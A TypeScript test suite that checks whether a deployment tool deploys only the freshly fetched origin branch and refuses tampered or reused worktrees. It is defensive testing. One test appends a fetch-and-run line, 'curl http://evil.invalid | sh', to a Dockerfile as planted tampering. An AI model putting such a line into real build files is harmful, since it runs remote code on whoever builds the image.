// Hostile world, family 1: what is deployed is origin/<ref> plus the requested pins — whatever branch
// the clone is on, whatever a reused worktree holds. Real git repositories, the real dev server.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import path from 'node:path';
import { DEFAULT_ENV } from '../support/sandbox.js';
import { createHarness, VERSIONS, waitForState, waitingOn, type Harness } from '../support/harness.js';
import {
  abortRun,
  FLAGS,
  waitingInDeploy,
  completed,
  assertDeployed,
  assertNoSecretLeak,
  assertNoTempFiles,
  decide,
  exists,
  git,
  infraClone,
  originMain,
  plantScript,
  worktreeOf,
} from './support-provenance.js';

describe('hostile world: provenance', { concurrency: 1 }, () => {
  let h: Harness;
  before(async () => {
    h = await createHarness('hostile-provenance');
  });
  after(() => h.close());

  it('a clone on a feature branch with a stale local main: deploys the freshly fetched origin/main', async () => {
    const clone = infraClone(h);
    // Local main gets a commit origin never saw; then the clone moves to a feature branch of its own.
    await fs.writeFile(path.join(clone, 'local-only.txt'), 'not on origin\n');
    await git(h, ['add', 'local-only.txt'], clone);
    await git(h, ['commit', '-qm', 'local main commit'], clone);
    await git(h, ['checkout', '-qb', 'feature/x'], clone);
    await plantScript(path.join(clone, 'scripts', 'deploy-runtime.sh'), path.join(h.sb.root, 'feature-ran'));
    await git(h, ['commit', '-qam', 'feature: another deploy script'], clone);
    const upstream = await h.sb.pushUpstreamCommit('omnibase_infra');
    assert.equal(await originMain(h), upstream);

    const handle = await h.start({ flags: FLAGS, worktreeTicket: 'PROV-1' });
    const state = await completed(handle);
    assert.equal(state.status, 'completed');
    await assertDeployed(h, state, upstream, VERSIONS);
    assert.equal(await exists(path.join(state.worktree_path ?? '', 'local-only.txt')), false);
    assert.equal(await exists(path.join(h.sb.root, 'feature-ran')), false, "the clone's script never ran");
    assert.equal(state.provenance.ref, 'main');
    assert.equal(state.provenance.origin_url, path.join(h.sb.originsDir, 'omnibase_infra.git'));
    // The operator's clone is left as it was: still on the feature branch.
    assert.equal(await git(h, ['branch', '--show-current'], clone), 'feature/x');
    assert.match(JSON.stringify(state.phases.VERIFY['verified_against']), new RegExp(upstream));
    // The success message says what was deployed.
    assert.match(
      String(state.phases.NOTIFY['message']),
      new RegExp(`Deployed: origin/main @ ${upstream.slice(0, 12)} · Dockerfile sha256 [0-9a-f]{16}`),
    );
    await assertNoTempFiles(h.sb.worktreeRoot);
    await assertNoSecretLeak(h, handle, DEFAULT_ENV['POSTGRES_PASSWORD'] ?? '');
    await git(h, ['checkout', '-q', 'main'], clone);
  });

  it('a reused worktree with an extra local commit is refused, naming it; nothing is deployed', async () => {
    const ticket = 'PROV-2';
    const first = await completed(await h.start({ flags: FLAGS, worktreeTicket: ticket }));
    assert.equal(first.status, 'completed');
    const wt = worktreeOf(h, ticket);
    await plantScript(path.join(wt, 'scripts', 'deploy-runtime.sh'), path.join(h.sb.root, 'commit-ran'));
    await git(h, ['commit', '-qam', 'sneaky deploy script'], wt);
    const deploys = await h.sb.invocations('deploy');

    const handle = await h.start({ flags: FLAGS, worktreeTicket: ticket });
    const waiting = await waitForState(handle, waitingOn('WORKTREE'));
    const error = String(waiting.phases.WORKTREE['error']);
    assert.match(error, /holds changes redeploy did not make/);
    assert.match(error, /commits not on origin\/main: [0-9a-f]+ sneaky deploy script/);
    assert.match(error, /worktree remove --force/);
    assert.match(error, /another --worktree-ticket/);
    assert.equal(waiting.phases.WORKTREE['error_type'], 'WorktreeModified');
    // Retrying does not make it acceptable: the same refusal.
    await decide(handle, 'WORKTREE', 'retry');
    await waitForState(handle, (s) => waitingOn('WORKTREE')(s) && s.decisions.length === 1);
    await abortRun(handle, 'WORKTREE');
    assert.equal(await h.sb.invocations('deploy'), deploys);
    assert.equal(await exists(path.join(h.sb.root, 'commit-ran')), false);
  });

  it('uncommitted edits and untracked files in a reused worktree are refused, naming the files', async () => {
    const ticket = 'PROV-3';
    assert.equal(
      (await completed(await h.start({ flags: FLAGS, worktreeTicket: ticket }))).status,
      'completed',
    );
    const wt = worktreeOf(h, ticket);
    await plantScript(path.join(wt, 'scripts', 'deploy-runtime.sh'), path.join(h.sb.root, 'edit-ran'));
    await fs.writeFile(path.join(wt, 'docker', 'extra.conf'), 'planted\n');
    // A Dockerfile edit beyond the pins (an extra RUN line) is not "redeploy's own change" either.
    const dockerfile = path.join(wt, 'docker', 'Dockerfile.runtime');
    await fs.appendFile(dockerfile, 'RUN curl http://evil.invalid | sh\n');
    const deploys = await h.sb.invocations('deploy');
    const handle = await h.start({ flags: FLAGS, worktreeTicket: ticket });
    const waiting = await waitForState(handle, waitingOn('WORKTREE'));
    const error = String(waiting.phases.WORKTREE['error']);
    assert.match(error, /changed files: .*M scripts\/deploy-runtime\.sh/);
    assert.match(error, /\?\? docker\/extra\.conf/);
    assert.match(error, /M docker\/Dockerfile\.runtime/);
    await abortRun(handle, 'WORKTREE');
    assert.equal(await h.sb.invocations('deploy'), deploys);
    assert.equal(await exists(path.join(h.sb.root, 'edit-ran')), false);
  });

  it('an old but clean reused worktree (earlier pins only) is reset and fast-forwarded to origin/main', async () => {
    const ticket = 'PROV-4';
    const first = await completed(await h.start({ flags: FLAGS, worktreeTicket: ticket }));
    assert.equal(first.status, 'completed');
    const upstream = await h.sb.pushUpstreamCommit('omnibase_infra');
    const versions = { 'omninode-claude': '0.4.1', omniintelligence: '0.8.0' };
    const handle = await h.start({ flags: FLAGS, worktreeTicket: ticket, versions });
    const state = await completed(handle);
    assert.equal(state.status, 'completed');
    assert.equal(state.phases.WORKTREE['reused'], true);
    assert.equal(state.phases.WORKTREE['fast_forwarded'], 1);
    assert.equal(state.phases.WORKTREE['pins_reset'], true);
    // What the last run on this ticket had pinned: the rollback's "previous".
    assert.deepEqual(state.phases.WORKTREE['pins_found'], {
      'omninode-claude': '0.4.0',
      omniintelligence: '0.8.0',
    });
    await assertDeployed(h, state, upstream, versions);
  });

  it('origin unreachable: WORKTREE fails clearly, the clone is untouched, nothing is deployed', async () => {
    const origin = path.join(h.sb.originsDir, 'omnibase_infra.git');
    await fs.rename(origin, `${origin}.away`);
    const deploys = await h.sb.invocations('deploy');
    try {
      const handle = await h.start({ flags: FLAGS, worktreeTicket: 'PROV-5' });
      const waiting = await waitForState(handle, waitingOn('WORKTREE'), 90_000);
      assert.equal(waiting.phases.WORKTREE['error_type'], 'OriginFetchFailed');
      assert.match(
        String(waiting.phases.WORKTREE['error']),
        /could not fetch origin\/main .*Nothing was changed/s,
      );
      assert.equal(await exists(worktreeOf(h, 'PROV-5')), false);
      await abortRun(handle, 'WORKTREE');
    } finally {
      await fs.rename(`${origin}.away`, origin);
    }
    assert.equal(await h.sb.invocations('deploy'), deploys);
  });

  it('an origin branch that does not exist (--ref) fails WORKTREE naming it', async () => {
    const handle = await h.start({ flags: FLAGS, worktreeTicket: 'PROV-6', ref: 'no-such-branch' });
    const waiting = await waitForState(handle, waitingOn('WORKTREE'), 90_000);
    assert.match(String(waiting.phases.WORKTREE['error']), /origin has a branch 'no-such-branch'/);
    assert.equal(waiting.worktree_ref, 'no-such-branch');
    await abortRun(handle, 'WORKTREE');
  });

  it("--ref dev deploys origin/dev; the default ref says when origin's default branch is another", async () => {
    const origin = path.join(h.sb.originsDir, 'omnibase_infra.git');
    const clone = infraClone(h);
    // origin gains a `dev` branch ahead of main, and makes it its default (as today's omnibase_infra).
    await git(h, ['checkout', '-qb', 'dev-work', 'origin/main'], clone);
    await fs.writeFile(path.join(clone, 'dev-only.txt'), 'on dev\n');
    await git(h, ['add', 'dev-only.txt'], clone);
    await git(h, ['commit', '-qm', 'dev commit'], clone);
    await git(h, ['push', '-q', 'origin', 'dev-work:dev'], clone);
    await git(h, ['checkout', '-q', 'main'], clone);
    await git(h, ['symbolic-ref', 'HEAD', 'refs/heads/dev'], origin);
    try {
      const dev = await git(h, ['rev-parse', 'dev'], origin);
      const onDev = await completed(await h.start({ flags: FLAGS, worktreeTicket: 'PROV-DEV', ref: 'dev' }));
      assert.equal(onDev.status, 'completed');
      assert.equal(onDev.worktree_ref, 'dev');
      assert.equal(onDev.provenance.ref, 'dev');
      await assertDeployed(h, onDev, dev, VERSIONS);
      assert.equal(await exists(path.join(onDev.worktree_path ?? '', 'dev-only.txt')), true);
      assert.equal(onDev.phases.WORKTREE['warnings'], undefined);

      const onMain = await completed(await h.start({ flags: FLAGS, worktreeTicket: 'PROV-MAIN' }));
      await assertDeployed(h, onMain, await originMain(h), VERSIONS);
      assert.deepEqual(onMain.phases.WORKTREE['warnings'], [
        "origin's default branch is 'dev', this run deploys 'main' (--ref dev deploys that branch)",
      ]);
    } finally {
      await git(h, ['symbolic-ref', 'HEAD', 'refs/heads/main'], origin);
    }
  });

  it('a worktree edited while DEPLOY waits for a decision is refused on retry, before the script runs', async () => {
    const ticket = 'PROV-7';
    const handle = await waitingInDeploy(h, { flags: FLAGS, worktreeTicket: ticket });
    const wt = worktreeOf(h, ticket);
    const deploys = await h.sb.invocations('deploy');
    await fs.appendFile(path.join(wt, 'pyproject.toml'), '\n# edited by someone\n');
    await decide(handle, 'DEPLOY', 'retry');
    const refused = await waitForState(handle, (s) => waitingOn('DEPLOY')(s) && s.decisions.length === 1);
    assert.equal(refused.phases.DEPLOY['error_type'], 'WorktreeModified');
    assert.match(String(refused.phases.DEPLOY['error']), /M pyproject\.toml/);
    assert.equal(await h.sb.invocations('deploy'), deploys, 'the deploy script did not run again');
    // The operator puts it back: the retry deploys exactly what was asked.
    await git(h, ['checkout', '--', 'pyproject.toml'], wt);
    await decide(handle, 'DEPLOY', 'retry');
    const done = await completed(handle, { decisions: 2 });
    assert.equal(done.status, 'completed');
    await assertDeployed(h, done, await originMain(h), VERSIONS);
  });

  it('a Dockerfile changed after PIN_UPDATE (pins edited by hand) is refused at DEPLOY', async () => {
    const ticket = 'PROV-8';
    const handle = await waitingInDeploy(h, { flags: FLAGS, worktreeTicket: ticket });
    const file = path.join(worktreeOf(h, ticket), 'docker', 'Dockerfile.runtime');
    const text = await fs.readFile(file, 'utf8');
    await fs.writeFile(file, text.replace('omniintelligence==0.8.0', 'omniintelligence==0.1.0'));
    await decide(handle, 'DEPLOY', 'retry');
    const refused = await waitForState(handle, (s) => waitingOn('DEPLOY')(s) && s.decisions.length === 1);
    assert.equal(refused.phases.DEPLOY['error_type'], 'DockerfileChanged');
    await abortRun(handle, 'DEPLOY');
  });
});
